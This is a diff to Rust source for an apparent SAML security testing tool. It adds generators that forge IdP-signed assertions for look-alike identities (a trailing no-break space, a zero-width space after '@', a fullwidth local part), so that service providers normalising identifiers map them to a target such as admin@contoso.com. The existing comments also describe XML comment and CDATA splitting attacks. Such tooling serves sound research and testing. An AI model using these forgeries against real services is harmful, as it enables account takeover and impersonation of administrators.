@@ -1,7 +1,8 @@
 //! Text and canonicalization: the IdP signs the attacker's own look-alike account
 //! (`admin@contoso.com.evil.test`), then a comment or CDATA boundary is placed so that exclusive
 //! C14N (and so the signature) is unchanged while a consumer reading only the first text node
-//! sees the target (`admin@contoso.com`).
+//! sees the target (`admin@contoso.com`). The `normalise` edits sign a look-alike that only
+//! an SP normalising identifiers (NFKC, nameprep, Unicode trimming) maps to the target.
 
 use crate::bytes::{splice, Doc};
 use crate::crypto::idp_resign;
@@ -130,5 +131,68 @@ fn with_entity(f: &Forge, place: Place) -> Result<Forged, Skip> {
         xml: format!("<!DOCTYPE {root} [<!ENTITY {SUFFIX_ENTITY} \"{LOOKALIKE_SUFFIX}\">]>{body}"),
         swap: forged.swap,
         served: Vec::new(),
+    })
+}
+
+/// The seed re-issued by the IdP for a look-alike account whose every e-mail-shaped identity
+/// value is `disguise(target)`: byte-different from the target, the same after the
+/// normalisation an account lookup might apply.
+fn confusable(f: &Forge, disguise: fn(&str) -> String) -> Result<Forged, Skip> {
+    let key = f.idp_key()?;
+    let doc = Doc::parse(f.seed)?;
+    let target = identity::forger(&doc);
+    let mut swap = Swap::default();
+    for value in identity::values(&doc) {
+        let t = target(&value);
+        if t.contains('@') && !swap.forged.contains(&t) {
+            swap.genuine.push(disguise(&t));
+            swap.forged.push(t);
+        }
+    }
+    if swap.forged.is_empty() {
+        return Err(Skip::NotApplicable(
+            "the seed has no e-mail-shaped identity value to imitate".into(),
+        ));
+    }
+    let (edits, _) = identity::rewrite_edits(&doc, 0..doc.src.len(), &|v| {
+        let t = target(v);
+        if t.contains('@') {
+            disguise(&t)
+        } else {
+            v.to_owned()
+        }
+    });
+    Ok(Forged {
+        xml: idp_resign(&splice(doc.src, edits), key)?,
+        swap,
+        served: Vec::new(),
+    })
+}
+
+/// `admin@contoso.com` followed by a no-break space (U+00A0), which Unicode-aware trimming
+/// (Python's `str.strip`, .NET's `Trim`) and NFKC remove or turn into a space.
+pub fn normalise_nbsp(f: &Forge) -> Result<Forged, Skip> {
+    confusable(f, |t| format!("{t}\u{a0}"))
+}
+
+/// `admin@\u{200b}contoso.com`: a zero-width space that IDNA2003 nameprep maps to nothing
+/// (RFC 3454 table B.1), as domain normalisation does.
+pub fn normalise_zero_width(f: &Forge) -> Result<Forged, Skip> {
+    confusable(f, |t| t.replacen('@', "@\u{200b}", 1))
+}
+
+/// The local part in fullwidth forms (`ａｄｍｉｎ@contoso.com`), which NFKC folds to ASCII
+/// (Django's `normalize_username`, many account lookups).
+pub fn normalise_fullwidth(f: &Forge) -> Result<Forged, Skip> {
+    confusable(f, |t| {
+        let (local, domain) = t.split_once('@').unwrap_or((t, ""));
+        let wide: String = local
+            .chars()
+            .map(|c| match c {
+                '!'..='~' => char::from_u32(c as u32 + 0xfee0).unwrap_or(c),
+                _ => c,
+            })
+            .collect();
+        format!("{wide}@{domain}")
     })
 }
